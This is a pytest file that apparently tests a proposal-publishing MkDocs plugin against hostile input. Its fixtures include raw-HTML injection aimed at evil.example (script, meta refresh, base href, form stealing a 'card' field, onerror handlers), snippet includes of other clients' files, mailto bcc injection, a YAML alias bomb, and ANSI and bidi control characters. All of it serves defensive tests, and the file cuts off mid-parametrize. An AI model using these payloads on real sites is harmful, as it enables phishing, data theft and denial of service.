"""Hostile input (issue 17): nothing leaks, nothing is lost, nothing crashes.

One test (at least) per kind of input the adversarial pass tried, each asserting what a user
sees: the problem names the file, the line and the field (`file:line: field: message`), no
command prints a traceback, no engagement file changes, no client page shows anything but
its own file. Then the validation points of issue 13 (money precision, recorded dates in the
future, every problem in one run, the subdivision hint), and a property test feeding random
structures, random bytes and random damage to `courtside check` and to the build.

Lines were counted by hand in test_validation.VALID: 2 client, 3 project, 4 share, 5 fee,
7 the client's contact, 8 signed, 9 buffer, 10 stages, 11/14/17 the stages' names,
13/16/19 their days, 20 payments, 21-23 the payments, 25 the body.
"""

from __future__ import annotations

import contextlib
import hashlib
import io
import json
import os
import re
import shutil
import signal
import subprocess
import sys
from collections.abc import Iterator
from datetime import date
from decimal import Decimal
from http.server import BaseHTTPRequestHandler
from pathlib import Path
from typing import Any

import pytest
from babel.numbers import get_currency_precision
from conftest import QuietHandler, serving
from courtside.cli import main as courtside_main
from courtside.core.pipeline import Source, evaluate, read_policies
from courtside.core.snapshot import Snapshot
from courtside.core.values import (
    CURRENCIES,
    BadValue,
    currency_digits,
    guessable_share,
    money_precision_problem,
    name_key,
    parse_email,
)
from courtside.publish.mailto import mailto_href
from courtside.publish.sanitize import sanitize
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st
from test_validation import FILE, POLICIES, TODAY, VALID, assert_problems, edit, problems_of

MKDOCS = Path(sys.executable).parent / "mkdocs"
COURTSIDE = Path(sys.executable).parent / "courtside"
SHARE = "k7p2m9xq4r8t1vzb3hw6"  # VALID's
OTHER_SHARE = "q8w3e5r7t9y1u2i4o6p0"

MKDOCS_YML = """\
site_name: Hostile input
site_url: https://studio.example/
theme:
  name: material
  font: false
plugins:
  - courtside:
      projects: projects
{options}markdown_extensions:
  - admonition
  - tables
  - toc:
      permalink: true
  - pymdownx.superfences
  - pymdownx.snippets:
      check_paths: true
      base_path: ["."]
"""


# -- Helpers ----------------------------------------------------------------------------------------


def make_site(root: Path, files: dict[str, str | bytes], options: str = "") -> Path:
    """A small MkDocs site in `root`: docs/index.md, mkdocs.yml, projects/ with the policies and `files`."""
    (root / "docs").mkdir(parents=True, exist_ok=True)
    (root / "docs" / "index.md").write_text("# Home\n", encoding="utf-8")
    (root / "mkdocs.yml").write_text(MKDOCS_YML.format(options=options), encoding="utf-8")
    projects = root / "projects"
    projects.mkdir(exist_ok=True)
    (projects / "_policies.yml").write_text(POLICIES, encoding="utf-8")
    for name, content in files.items():
        target = projects / name
        if isinstance(content, bytes):
            target.write_bytes(content)
        else:
            target.write_text(content, encoding="utf-8", newline="")
    return root


def mkdocs(root: Path, *flags: str) -> subprocess.CompletedProcess[str]:
    """`mkdocs build` in `root` as a user runs it, on the examples' day, output captured."""
    environ = {**os.environ, "COURTSIDE_TODAY": TODAY.isoformat(), "NO_MKDOCS_2_WARNING": "1"}
    return subprocess.run(
        [str(MKDOCS), "build", *flags], cwd=root, env=environ, capture_output=True, text=True, timeout=300
    )


def courtside(root: Path, *args: str) -> subprocess.CompletedProcess[str]:
    """The `courtside` command in `root`, on the examples' day."""
    environ = {k: v for k, v in os.environ.items() if k != "COURTSIDE_TODAY"}
    environ |= {"PYTHONUTF8": "1", "COURTSIDE_TODAY": TODAY.isoformat()}
    return subprocess.run(
        [str(COURTSIDE), *args],
        cwd=root,
        env=environ,
        capture_output=True,
        text=True,
        timeout=120,
    )


def tree(folder: Path) -> dict[str, bytes]:
    """Relative path -> bytes of every file under `folder` (links as their target's path)."""
    out: dict[str, bytes] = {}
    for path in sorted(folder.rglob("*")):
        key = str(path.relative_to(folder))
        if path.is_symlink():
            out[key] = b"-> " + os.readlink(path).encode()
        elif path.is_file():
            out[key] = path.read_bytes()
    return out


def no_traceback(result: subprocess.CompletedProcess[str]) -> str:
    """The whole output of a command, after checking it holds no traceback."""
    output = result.stdout + result.stderr
    assert "Traceback" not in output and "internal error" not in output, output
    return output


def one_problem(text: str | bytes, line: int, field: str, message: str, tmp_path: Path) -> None:
    """`text` as projects/acme.md has exactly this one problem."""
    assert_problems(problems_of(tmp_path, text), [(FILE, line, field, message)])


POLICY_SET = read_policies(Source.of("projects/_policies.yml", POLICIES))


def evaluated(text: str) -> Any:
    """VALID-like text evaluated by the pipeline on TODAY, without a folder."""
    return evaluate(Source.of(FILE, text), POLICY_SET, TODAY)


# -- Leaks: another file in a client page ---------------------------------------------------------


HOSTILE_BODY = """\
## Scope

| Left | Right |
|:-----|------:|
| a    | b     |

--8<-- "projects/b.md"

--8<-- "mkdocs.yml"

--8<-- "nowhere.md"

<meta http-equiv="refresh" content="0;url=https://evil.example/">
<meta name="referrer" content="unsafe-url">
<base href="https://evil.example/">
<a href="https://elsewhere.example/" referrerpolicy="unsafe-url" target="_blank" onclick="steal()">a link</a>
<script>document.title = "owned"</script><style>body { display: none }</style>
<form action="https://evil.example/"><input name="card"></form>
<iframe src="https://evil.example/"></iframe>
<img src="logo.png" alt="Logo" onerror="steal()" style="position: fixed">
"""


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A site whose acme.md body tries every include and raw-HTML trick, next to other.md;
    a long proposal; a file saved with CR-only line ends. Built once: it must build."""
    root = tmp_path_factory.mktemp("hostile")
    other = edit(edit(VALID, SHARE, OTHER_SHARE), "client: Acme Bakery", "client: Zed Secret Corp")
    long = (
        "---\nclient: Long Haul\nproject: A decade of work\nshare: lng7q2w9e4r1t6y3u8i5\n"
        "contacts:\n  client: {name: Ada Lane, email: ada@client.example}\nstages:\n"
        + "".join(f"  - {{name: Phase {n}, owner: us, days: 2000}}\n" for n in range(1, 6))
        + "---\nA proposal.\n"
    )
    files = {
        "acme.md": VALID + HOSTILE_BODY,
        "b.md": other,
        "long.md": long,
        "mac.md": edit(VALID, SHARE, "mac3k8d1f6g0h4j9l2z7").replace("\n", "\r"),
    }
    site = make_site(root, files, "      board_path: board\n      board_protected: true\n")
    result = mkdocs(site, "--strict")
    assert result.returncode == 0, no_traceback(result)
    no_traceback(result)
    return site


def test_a_client_page_shows_no_other_file(hostile_site: Path) -> None:
    page = (hostile_site / "site" / "c" / SHARE / "index.html").read_text(encoding="utf-8")
    assert "We redesign the bakery" in page  # its own text is there
    assert OTHER_SHARE not in page and "Zed Secret Corp" not in page  # not the other client's
    assert "site_name" not in page and "Hostile input" not in page  # nor mkdocs.yml
    assert '<p>--8&lt;-- "projects/b.md"</p>' in page  # the include lines are shown as the text they are
    # The other client's own page is there, with its own share: the include simply did nothing.
    assert "Zed Secret Corp" in (hostile_site / "site" / "c" / OTHER_SHARE / "index.html").read_text(encoding="utf-8")


def test_raw_html_in_the_body_is_sanitised_and_formatting_kept(hostile_site: Path) -> None:
    page = (hostile_site / "site" / "c" / SHARE / "index.html").read_text(encoding="utf-8")
    prose = page[page.index('<div class="cs-prose">') :]
    prose = prose[: prose.index("</section>")]
    for gone in ("<meta", "<base", "<script", "<style", "<form", "<input", "<iframe", "onerror", "onclick",
                 "referrerpolicy", "target=", "evil.example", "position: fixed", "owned"):  # fmt: skip
        assert gone not in prose, gone
    assert '<a href="https://elsewhere.example/" rel="noopener noreferrer nofollow">a link</a>' in prose
    assert '<img src="logo.png" alt="Logo">' in prose
    assert '<th style="text-align:left">Left</th>' in prose and '<td style="text-align:right">b</td>' in prose
    assert '<h2 id="scope">Scope' in prose and 'class="headerlink"' in prose  # toc's permalink
    # The page's own head keeps its rules: one referrer policy, the CSP.
    assert page.count('name="referrer"') == 1 and '<meta name="referrer" content="no-referrer">' in page
    assert 'http-equiv="Content-Security-Policy"' in page and page.count("http-equiv") == 1


def test_the_sanitizer_keeps_markdown_and_drops_what_acts() -> None:
    assert sanitize('<p>Hi <strong>there</strong> <code>x &lt; y</code></p>') == (
        "<p>Hi <strong>there</strong> <code>x &lt; y</code></p>"
    )
    assert sanitize('<a href="javascript:alert(1)">x</a>') == '<a rel="noopener noreferrer nofollow">x</a>'
    assert sanitize('<a href="mailto:a@b.example">m</a>') == (
        '<a href="mailto:a@b.example" rel="noopener noreferrer nofollow">m</a>'
    )
    assert sanitize("<bdo dir=rtl>abc</bdo><svg onload=x></svg>") == "abc"
    assert sanitize('<div class="admonition note"><p class="admonition-title">Note</p></div>') == (
        '<div class="admonition note"><p class="admonition-title">Note</p></div>'
    )
    assert sanitize("<script>alert(1)</script><noscript>n</noscript><textarea>t</textarea>ok") == "ok"


def test_a_long_proposal_draws_its_timeline(hostile_site: Path) -> None:
    # Five stages of 2,000 days (12,500 promised with the 25% buffer): the timeline's ticks ran
    # out at 6,000 and the build crashed after `courtside check` had passed.
    page = (hostile_site / "site" / "c" / "lng7q2w9e4r1t6y3u8i5" / "index.html").read_text(encoding="utf-8")
    svg = page[page.index("<svg") : page.index("</svg>")]
    assert svg.count("Phase ") >= 5 and ">10,000<" in svg  # 12,000 working days, a tick every 10,000


def test_a_file_with_cr_only_line_ends_is_read(hostile_site: Path) -> None:
    page = (hostile_site / "site" / "c" / "mac3k8d1f6g0h4j9l2z7" / "index.html").read_text(encoding="utf-8")
    assert "Acme Bakery" in page and "Design approval" in page


def test_a_cr_only_file_names_the_lines_an_editor_shows(tmp_path: Path) -> None:
    text = edit(VALID, "days: 8", "days: 0").replace("\n", "\r")
    one_problem(text, 16, "stages[1].days", "at least 1, got 0", tmp_path)


def test_the_client_calendar_carries_no_file_id(hostile_site: Path) -> None:
    calendar = (hostile_site / "site" / "c" / SHARE / "calendar.ics").read_bytes().decode("utf-8")
    uids = re.findall(r"^UID:(.*)\r$", calendar.replace("\r\n ", ""), re.M)  # lines unfolded
    assert uids and all("acme" not in uid for uid in uids), uids
    digest = "e" + hashlib.blake2b(b"acme", digest_size=8, person=b"courtside-uid").hexdigest()
    assert all(f".{digest}.northwind-studio@courtside.invalid" in uid for uid in uids)
    board_calendar = (hostile_site / "site" / "board" / "calendar.ics").read_bytes().decode("utf-8")
    assert ".acme.northwind-studio.board@courtside.invalid" in board_calendar.replace("\r\n ", "")  # the studio's may


def test_the_client_page_mails_its_contacts_through_the_one_encoder(hostile_site: Path) -> None:
    page = (hostile_site / "site" / "c" / SHARE / "index.html").read_text(encoding="utf-8")
    assert '<a href="mailto:dana@acmebakery.example" dir="ltr">' in page
    assert set(re.findall(r'href="(mailto:[^"]*)"', page)) <= {
        "mailto:dana@acmebakery.example",
        "mailto:sam@northwind.example",
    }


def test_mailto_href_encodes_what_would_add_recipients() -> None:
    assert mailto_href("x@y.example?bcc=z@evil.example&cc=q") == "mailto:x@y.example%3Fbcc%3Dz@evil.example%26cc%3Dq"
    assert mailto_href("a@b.example", "Hi & bye", "L1\nL2") == "mailto:a@b.example?subject=Hi%20%26%20bye&body=L1%0D%0AL2"


@pytest.mark.parametrize(
    ("address", "reason"),
    [
        ("x@y.example?bcc=evil@evil.example&cc=a@b.example", "invalid characters"),
        ("dana", "an @-sign"),
        ('"a b"@c.example', "Quoting"),
        ("a@[10.0.0.1]", "bracketed IP"),
        ("a@b.test", "special-use or reserved"),
        ("a b@c.example", "SPACE"),
        ("a@localhost", "period"),
    ],
)
def test_email_addresses_are_parsed_for_real(tmp_path: Path, address: str, reason: str) -> None:
    text = edit(VALID, "email: dana@acmebakery.example", f"email: '{address}'")
    found = problems_of(tmp_path, text)
    assert_problems(found, [(FILE, 7, "contacts.client.email", "expected an email address like name@example.com")])
    assert reason.lower() in found[0].message.lower(), found[0]


def test_good_email_addresses_pass_and_are_normalized() -> None:
    assert parse_email(" dana@AcmeBakery.example ") == "dana@acmebakery.example"
    assert parse_email("o'brien+ops@studio.example") == "o'brien+ops@studio.example"
    assert parse_email("josé@café.example") == "josé@café.example"
    with pytest.raises(BadValue):
        parse_email("x@y.example\nBcc: z@evil.example")


def test_courtside_new_refuses_a_mailto_trick(tmp_path: Path) -> None:
    (tmp_path / "projects").mkdir()
    result = courtside(
        tmp_path, "new", "acme", "--client", "Acme", "--project", "Site", "--email", "x@y.example?bcc=z@evil.example"
    )
    assert result.returncode == 2 and "argument --email: expected an email address" in no_traceback(result)
    assert not (tmp_path / "projects" / "acme.md").exists()


# -- Shares --------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("share", "message"),
    [
        ("0000000000000000000000000", "easy to guess (only 1 different character)"),
        ("abcabcabcabcabcabcabcabc", "easy to guess (only 3 different characters)"),
        ("abcdefghijklmnopqrstu", "easy to guess (a run of 21 equal or consecutive characters)"),
        ("k7p2m9xq4r8t1vzb3hw6" + "aaaaaa", "a run of 6 equal or consecutive characters"),
        ("k7p2m9xq4r8t1vzb3hw6" * 15, "expected at most 64 characters, got 300"),
    ],
)
def test_guessable_and_overlong_shares_are_refused(tmp_path: Path, share: str, message: str) -> None:
    found = problems_of(tmp_path, edit(VALID, SHARE, share))
    assert_problems(found, [(FILE, 4, "share", message)])
    assert "courtside rotate" in found[0].message


def test_new_shares_are_never_guessable() -> None:
    from courtside.core.scaffold import new_share

    assert guessable_share("k7p2m9xq4r8t1vzb3hw6") is None
    assert guessable_share("k7p2m9xq4r8t1vzb3hw6" + "abcde") is None  # a run of 5 is chance
    assert all(guessable_share(new_share()) is None for _ in range(2000))


# -- Loss: settings that would destroy or expose the engagements ----------------------------------


REFUSED: dict[str, tuple[tuple[str, ...], str, str]] = {
    # name: (flags, plugin options, a part of the message)
    "site is projects": (("-d", "projects"), "", "is the projects folder"),
    "site inside projects": (("-d", "projects/site"), "", "is inside the projects folder"),
    "site holds projects": (("-d", "."), "", "holds the projects folder"),
    "client_dir ..": ((), "      client_dir: ../outside\n", "`client_dir: ../outside` leaves the site"),
    "client_dir absolute": ((), "      client_dir: /tmp/clients\n", "is not a folder of the site"),
    "client_dir hidden": ((), "      client_dir: .courtside-stage\n", "is a hidden folder"),
    "board_path ..": ((), "      board_path: c/../../board\n      board_protected: true\n", "leaves the site"),
}


@pytest.mark.parametrize("name", list(REFUSED))
def test_a_setting_that_would_destroy_data_is_refused_before_anything_is_written(tmp_path: Path, name: str) -> None:
    flags, options, message = REFUSED[name]
    root = make_site(tmp_path / "root", {"acme.md": VALID}, options)
    if name == "site holds projects":  # docs elsewhere, so that MkDocs' own rule does not answer first
        (root / "mkdocs.yml").write_text((root / "mkdocs.yml").read_text() + "docs_dir: ../docs\n")
        shutil.move(root / "docs", tmp_path / "docs")
    before = tree(tmp_path)
    result = mkdocs(root, *flags)
    output = no_traceback(result)
    assert result.returncode == 1, output
    assert message in output and "nothing was written" in output, output
    assert tree(tmp_path) == before  # every engagement file, and everything else, as it was


def test_projects_inside_docs_dir_is_refused(tmp_path: Path) -> None:
    root = make_site(tmp_path, {"acme.md": VALID})
    shutil.move(root / "projects", root / "docs" / "projects")
    text = (root / "mkdocs.yml").read_text().replace("projects: projects", "projects: docs/projects")
    (root / "mkdocs.yml").write_text(text)
    before = tree(root)
    result = mkdocs(root)
    output = no_traceback(result)
    assert result.returncode == 1 and "is inside docs_dir" in output and "public page" in output
    assert tree(root) == before and not (root / "site").exists()


def test_a_failed_build_leaves_the_previous_site_byte_identical(tmp_path: Path) -> None:
    root = make_site(tmp_path, {"acme.md": VALID, "b.md": edit(VALID, SHARE, OTHER_SHARE)})
    assert mkdocs(root).returncode == 0
    published = tree(root / "site")
    assert f"c/{SHARE}/index.html" in published and f"c/{OTHER_SHARE}/calendar.ics" in published
    # A problem (found by validation) and a file that is not one (a folder named like one).
    (root / "projects" / "b.md").write_text(edit(VALID, "days: 8", "days: 0"), encoding="utf-8")
    (root / "projects" / "dir.md").mkdir()
    result = mkdocs(root)
    output = no_traceback(result)
    assert result.returncode == 1 and "projects/b.md:16: stages[1].days" in output and "projects/dir.md:1" in output
    assert tree(root / "site") == published


def test_a_dirty_build_removes_the_pages_of_rotated_shares_and_deleted_engagements(tmp_path: Path) -> None:
    root = make_site(tmp_path, {"acme.md": VALID, "b.md": edit(VALID, SHARE, OTHER_SHARE)})
    assert mkdocs(root).returncode == 0
    client = root / "site" / "c"
    assert {p.name for p in client.iterdir()} == {SHARE, OTHER_SHARE, "index.html"}
    (client / "notes.txt").write_text("not a client page")  # something else in the folder stays
    rotated = courtside(root, "rotate", "acme")
    assert rotated.returncode == 0, no_traceback(rotated)
    new_share = re.search(r"new:  c/([a-z0-9]+)/", rotated.stdout).group(1)  # type: ignore[union-attr]
    (root / "projects" / "b.md").unlink()
    result = mkdocs(root, "--dirty")
    assert result.returncode == 0, no_traceback(result)
    assert {p.name for p in client.iterdir()} == {new_share, "index.html", "notes.txt"}
    assert (client / new_share / "index.html").is_file() and (client / new_share / "calendar.ics").is_file()


# -- Loss: `courtside rotate` --------------------------------------------------------------------


def rotate(folder: Path, ident: str, capsys: pytest.CaptureFixture[str]) -> tuple[int, str]:
    """`courtside rotate ident --projects folder`, in this process: its exit code and output."""
    code = courtside_main(["rotate", ident, "--projects", str(folder)])
    captured = capsys.readouterr()
    return code, captured.out + captured.err


def share_of(path: Path) -> str:
    return re.search(r"^share: (\S+)", path.read_text(encoding="utf-8"), re.M).group(1)  # type: ignore[union-attr]


def test_rotate_edits_the_file_a_link_points_to(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    folder = tmp_path / "projects"
    (folder / "real").mkdir(parents=True)
    real = folder / "real" / "acme-file.md"
    real.write_text(VALID, encoding="utf-8")
    real.chmod(0o640)
    (folder / "acme.md").symlink_to("real/acme-file.md")
    code, output = rotate(folder, "acme", capsys)
    assert code == 0, output
    assert (folder / "acme.md").is_symlink() and os.readlink(folder / "acme.md") == "real/acme-file.md"
    assert share_of(real) != SHARE and guessable_share(share_of(real)) is None
    assert real.read_text(encoding="utf-8") == VALID.replace(SHARE, share_of(real))  # nothing else changed
    assert real.stat().st_mode & 0o777 == 0o640
    assert f"a link to {real}" in output


def test_rotate_refuses_a_link_out_of_the_folder_and_a_hard_link(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    folder = tmp_path / "projects"
    folder.mkdir()
    outside = tmp_path / "outside.md"
    outside.write_text(VALID, encoding="utf-8")
    (folder / "acme.md").symlink_to(outside)
    code, output = rotate(folder, "acme", capsys)
    assert code == 1 and "outside the projects folder" in output and "nothing changed" in output
    os.link(outside, folder / "twin.md")
    code, output = rotate(folder, "twin", capsys)
    assert code == 1 and "has 2 names (hard links)" in output
    assert outside.read_text(encoding="utf-8") == VALID


def test_rotate_never_deletes_a_users_file_and_is_all_or_nothing(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    folder = tmp_path / "projects"
    folder.mkdir()
    (folder / "acme.md").write_text(VALID, encoding="utf-8")
    mine = folder / ".acme.md.rotate"  # the name the old temporary file had
    mine.write_text("my notes", encoding="utf-8")
    code, output = rotate(folder, "acme", capsys)
    assert code == 0, output
    assert mine.read_text(encoding="utf-8") == "my notes"
    assert sorted(p.name for p in folder.iterdir()) == [".acme.md.rotate", "acme.md"]  # no temporary left

    # A failure at the last step leaves the file as it was, and no temporary file.
    before = (folder / "acme.md").read_bytes()

    def fail(src: object, dst: object) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "replace", fail)
    code, output = rotate(folder, "acme", capsys)
    assert code == 1 and "No space left on device" in output
    assert (folder / "acme.md").read_bytes() == before
    assert sorted(p.name for p in folder.iterdir()) == [".acme.md.rotate", "acme.md"]


def test_rotate_keeps_cr_only_line_ends(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    folder = tmp_path / "projects"
    folder.mkdir()
    (folder / "acme.md").write_bytes(VALID.replace("\n", "\r").encode())
    code, output = rotate(folder, "acme", capsys)
    assert code == 0 and "acme.md:4: share replaced" in output, output
    data = (folder / "acme.md").read_bytes().decode()
    new = re.search(r"share: ([a-z0-9]+)", data).group(1)  # type: ignore[union-attr]
    assert data == VALID.replace("\n", "\r").replace(SHARE, new)


# -- Crashes: limits with clear messages ---------------------------------------------------------


def test_deep_nesting_is_one_problem_and_other_files_still_report(tmp_path: Path) -> None:
    # 400 levels of `[` (800 bytes) was a recursion error in every command.
    root = make_site(
        tmp_path, {"acme.md": edit(VALID, "project: Website redesign", "project: " + "[" * 400 + "]" * 400),
                   "b.md": edit(edit(VALID, SHARE, OTHER_SHARE), "client: Acme", "clent: Acme")},
    )  # fmt: skip
    result = courtside(root, "check")
    output = no_traceback(result)
    assert result.returncode == 1
    assert "projects/acme.md:3: project: lists and mappings nested more than 20 levels deep" in output
    assert "projects/b.md:2: clent: unknown field; did you mean 'client'?" in output


def test_a_million_brackets_is_one_problem_quickly(tmp_path: Path) -> None:
    found = problems_of(tmp_path, "---\nproject: " + "[" * 999_000 + "\n---\n")
    assert_problems(found, [(FILE, 2, "project", "nested more than 20 levels deep")])


def test_a_number_of_5000_digits_gets_its_own_message(tmp_path: Path) -> None:
    one_problem(edit(VALID, "fee: 12000", "fee: " + "9" * 5000), 5, "fee", "a number of 5,000 digits; expected at most 40", tmp_path)


def test_an_alias_bomb_is_one_clear_problem(tmp_path: Path) -> None:
    bomb = "".join(
        f"l{n}: &l{n} [{', '.join([f'*l{n - 1}'] * 9) if n else 'lol'}]\n" for n in range(9)
    )  # nine levels of nine aliases each: 9^8 values once expanded
    found = problems_of(tmp_path, edit(VALID, "buffer: 25%\n", "buffer: 25%\n" + bomb))
    assert_problems(found, [(FILE, 11, "l1[0]", "aliases ('*l0') are not supported; write the value out (72 aliases in all")])


def test_too_many_stages_is_a_limit(tmp_path: Path) -> None:
    stages = "stages:\n" + "".join(f"  - {{name: S{i}, owner: us, days: 1}}\n" for i in range(10_000))
    text = edit(VALID, VALID[VALID.index("stages:") : VALID.index("payments:")], stages)
    text = text[: text.index("payments:")] + "---\n"
    one_problem(text, 10, "stages", "expected at most 100 items, got 10000", tmp_path)


@pytest.mark.parametrize(
    ("old", "new", "line", "field", "message"),
    [
        ("client: Acme Bakery", 'client: "Acme\\nFake row"', 2, "client", "cannot hold U+000A (a line break)"),
        ("client: Acme Bakery", 'client: "Acme\\e[31m Bakery"', 2, "client", "cannot hold U+001B (a control character)"),
        ("client: Acme Bakery", 'client: "Acme \\0"', 2, "client", "cannot hold U+0000 (a control character)"),
        ("name: Design approval\n", 'name: "Design \\u202Eapproval"\n', 17, "stages[2].name", "U+202E (a bidi control"),
        ("project: Website redesign", 'project: "Web\\u2066site"', 3, "project", "U+2066 (a bidi control"),
        ("{name: Dana Ruiz,", '{name: "Dana\\tRuiz",', 7, "contacts.client.name", "U+0009 (a control character)"),
        ("client: Acme Bakery", "client: " + "A" * 201, 2, "client", "at most 200 characters, got 201"),
    ],
)
def test_control_and_bidi_characters_are_refused_in_names(tmp_path, old, new, line, field, message) -> None:
    one_problem(edit(VALID, old, new), line, field, message, tmp_path)


def test_control_characters_in_the_body_are_refused_at_their_line(tmp_path: Path) -> None:
    for folder in ("esc", "bidi"):
        (tmp_path / folder).mkdir()
    one_problem(VALID + "Line two\nThree \x1b[2J\n", 27, "body", "cannot hold U+001B (a control character)", tmp_path / "esc")
    one_problem(VALID + "\u202eevil\n", 26, "body", "U+202E (a bidi control", tmp_path / "bidi")


def test_a_refused_character_is_never_printed_raw(tmp_path: Path) -> None:
    text = edit(VALID, "buffer: 25%", 'buffer: 25%\n"ke\\ey\\u202e": 1')
    (problem,) = problems_of(tmp_path, text)
    assert problem.line == 10 and "\x1b" not in str(problem) and "\u202e" not in str(problem)
    assert "ke\\x1by\\u202e" in str(problem)


def test_a_newline_in_a_client_name_adds_no_row_to_status(tmp_path: Path) -> None:
    (tmp_path / "projects").mkdir()
    (tmp_path / "projects" / "acme.md").write_text(edit(VALID, "client: Acme Bakery", 'client: "Acme\\nFake row"'))
    result = courtside(tmp_path, "status")
    output = no_traceback(result)
    assert "Fake row" not in output and "not shown, with problems: projects/acme.md" in output


def test_look_alike_stage_names_are_one_name(tmp_path: Path) -> None:
    # A zero-width space: the same name to anyone reading it.
    (tmp_path / "zw").mkdir()
    text = edit(VALID, "name: Design approval\n", 'name: "Kick-off\\u200B materials"\n')
    assert_problems(
        problems_of(tmp_path / "zw", text),
        [
            (FILE, 17, "stages[2].name", "is used twice (also stages[0]) (written differently, but it reads the same)"),
            (FILE, 22, "payments[1].due", "no stage named 'Design approval'"),
        ],
    )
    # "é" composed (NFC) in one name, as e and a combining accent (NFD) in the other.
    (tmp_path / "nfd").mkdir()
    text = edit(VALID, "name: Kick-off materials", "name: Caf\u00e9 brief")
    text = edit(text, "name: Design approval\n", "name: Cafe\u0301 brief\n")
    assert_problems(
        problems_of(tmp_path / "nfd", text),
        [
            (FILE, 17, "stages[2].name", "stage name 'Caf\u00e9 brief' is used twice (also stages[0])"),
            (FILE, 22, "payments[1].due", "no stage named 'Design approval'"),
        ],
    )


def test_a_due_that_reads_like_a_stage_name_is_that_stage() -> None:
    # `Design\u200b approval` (a zero-width space) and `Design approval` in NFD are the stage.
    for due in ("Design\u200b approval", "Design approval ", "De\u0301sign approval"):
        stage_name = "D\u00e9sign approval" if "\u0301" in due else "Design approval"
        text = edit(VALID, "name: Design approval\n", f"name: {stage_name}\n")
        result = evaluated(edit(text, "due: Design approval,", f'due: "{due}",'))
        assert isinstance(result, Snapshot), getattr(result, "problems", None)
        assert result.payments[1].stage == stage_name and result.payments[1].payment.due == stage_name
    assert name_key("Cafe\u0301\u200b  latte") == name_key("Caf\u00e9 latte")


def test_unreadable_files_are_problems_never_a_hang(tmp_path: Path) -> None:
    folder = tmp_path / "projects"
    folder.mkdir()
    (folder / "_policies.yml").write_text(POLICIES, encoding="utf-8")
    (folder / "acme.md").write_text(VALID, encoding="utf-8")
    os.mkfifo(folder / "pipe.md")  # reading it would wait forever for a writer
    (folder / "zero.md").symlink_to("/dev/zero")  # reading it would never end
    outside = tmp_path / "secret.md"
    outside.write_text(edit(VALID, SHARE, OTHER_SHARE), encoding="utf-8")
    (folder / "outside.md").symlink_to(outside)  # another folder's file, published silently
    (folder / "huge.md").write_bytes(b"---\n" + b"#" * 1_000_000)
    (folder / "ACME.MD").write_text(edit(VALID, SHARE, OTHER_SHARE), encoding="utf-8")
    (folder / "evil\x1b[2J.md").write_text(VALID, encoding="utf-8")
    result = courtside(tmp_path, "check")
    output = no_traceback(result)
    assert result.returncode == 1
    for line in (
        "projects/pipe.md:1: not a regular file (a folder, a pipe or a device); expected a text file",
        "projects/zero.md:1: a link to /dev/zero, outside the projects folder; expected the file itself here",
        f"projects/outside.md:1: a link to {outside}, outside the projects folder",
        "projects/huge.md:1: 1,000,004 bytes; expected a text file of at most 1,000,000 bytes",
        "projects/ACME.MD:1: the name ends in '.MD'; rename it to ACME.md (lowercase)",
        "projects/evil\\x1b[2J.md:1: the file name holds U+001B (a control character); rename the file",
    ):
        assert line in output, (line, output)
    assert "\x1b" not in output
    status = courtside(tmp_path, "status")
    assert "pipe.md" in no_traceback(status) and "\x1b" not in status.stdout + status.stderr


def test_every_hostile_file_at_once_through_check_status_and_the_build(tmp_path: Path) -> None:
    hostile = {
        "nest.md": edit(VALID, "project: Website redesign", "project: " + "[" * 400),
        "digits.md": edit(VALID, "fee: 12000", "fee: " + "1" * 5000),
        "share.md": edit(VALID, SHARE, "x" * 300),
        "stages.md": edit(VALID, "stages:\n", "stages:\n" + "  - {name: X, owner: us, days: 1}\n" * 150),
        "bomb.md": edit(VALID, "buffer: 25%\n", "buffer: 25%\na: &a [x, x]\nb: [*a, *a, *a]\n"),
        "name.md": edit(VALID, "client: Acme Bakery", 'client: "A\\u202eB"'),
        "latin1.md": edit(VALID, "Acme", "Caf\u00e9").encode("latin-1"),
        "bytes.md": bytes(range(256)) * 4,
    }
    root = make_site(tmp_path, hostile)
    os.mkfifo(root / "projects" / "fifo.md")
    before = tree(root / "projects")
    for result in (courtside(root, "check"), courtside(root, "status"), mkdocs(root), mkdocs(root, "-q", "--strict")):
        output = no_traceback(result)
        assert result.returncode == (0 if result.args[1] == "status" else 1), output  # status lists what it can
        for name in [*hostile, "fifo.md"]:  # check and the build name each problem, status each file
            assert f"projects/{name}{',' if result.args[1] == 'status' and name != 'stages.md' else ':'}" in output or (
                result.args[1] == "status" and f"projects/{name} (run" in output
            ), (name, output)
    assert tree(root / "projects") == before
    assert not (root / "site" / "c").exists()


# -- Broken YAML under `mkdocs serve`: the problems page at the share ------------------------------


def test_serve_shows_the_problems_at_the_share_of_a_file_whose_yaml_is_broken(tmp_path: Path, monkeypatch) -> None:
    from mkdocs.commands.build import build
    from mkdocs.config import load_config
    from mkdocs.config.defaults import MkDocsConfig

    root = make_site(tmp_path, {"acme.md": edit(VALID, "project: Website redesign", "project: [Website")})
    monkeypatch.chdir(root)
    monkeypatch.setenv("COURTSIDE_TODAY", TODAY.isoformat())
    cache = MkDocsConfig.plugins.plugin_cache
    saved = dict(cache)
    cache.clear()
    try:
        config = load_config(config_file=str(root / "mkdocs.yml"), site_dir=str(root / "served"))
        config.plugins.on_startup(command="serve", dirty=False)
        build(config, serve_url="http://127.0.0.1:8000/")
    finally:
        cache.clear()
        cache.update(saved)
    page = (root / "served" / "c" / SHARE / "index.html").read_text(encoding="utf-8")
    assert "This page has problems" in page
    assert "projects/acme.md:4: could not parse YAML" in page


# -- Issue 13: money precision, recorded dates, every problem at once, subdivisions ---------------


def test_currency_minor_units_are_babels() -> None:
    assert {code: currency_digits(code) for code in CURRENCIES} == {
        code: get_currency_precision(code) for code in CURRENCIES
    }
    assert (currency_digits("USD"), currency_digits("JPY"), currency_digits("KWD")) == (2, 0, 3)


@pytest.mark.parametrize(
    ("currency", "old", "new", "line", "field", "message"),
    [
        ("EUR", "fee: 12000", "fee: 18.000", 5, "fee",
         "18.000 has 3 decimal places, but EUR amounts have at most 2 decimal places; write 18000 if you meant 18 000"),
        ("EUR", "amount: 3600", "amount: 3600.005", 23, "payments[2].amount",
